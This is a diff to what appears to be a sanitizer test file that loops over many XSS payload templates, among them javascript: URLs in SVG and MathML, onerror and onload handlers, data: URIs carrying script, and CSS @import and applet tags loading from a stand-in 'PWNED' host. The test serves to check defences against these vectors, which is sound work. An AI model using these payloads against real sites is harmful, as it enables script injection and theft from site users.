@@ -160,7 +160,7 @@ for (const shape of [
   (s: string) => `<svg><image href="javascript:${s}"/></svg>`,
   (s: string) =>
     `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${s}</handler></svg>`,
-  (s: string) => `<svg><style>@import url(${PWNED}?css);</style><circle r="4"/></svg>`,
+  () => `<svg><style>@import url(${PWNED}?css);</style><circle r="4"/></svg>`,
   (s: string) => `<math><maction actiontype="statusline" xlink:href="javascript:${s}">x</maction></math>`,
   (s: string) => `<math href="javascript:${s}"><mi>x</mi></math>`,
   (s: string) => `<math><mtext><img src=x onerror="${s}"></mtext></math>`,
@@ -216,7 +216,7 @@ for (const shape of [
   (s: string) => `<frameset onload="${s}"><frame src="javascript:${s}"></frameset>`,
   (s: string) => `<object type="text/html" data="data:text/html,<script>${s}</script>"></object>`,
   (s: string) => `<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload='${s}'/>">`,
-  (s: string) => `<applet code="Pwned.class" codebase="${PWNED}"></applet>`,
+  () => `<applet code="Pwned.class" codebase="${PWNED}"></applet>`,
   () => `<base href="${PWNED}/">`,
   () => `<base href="javascript:/">`,
   (s: string) => `<meta http-equiv="refresh" content="99999;url=javascript:${s}">`,
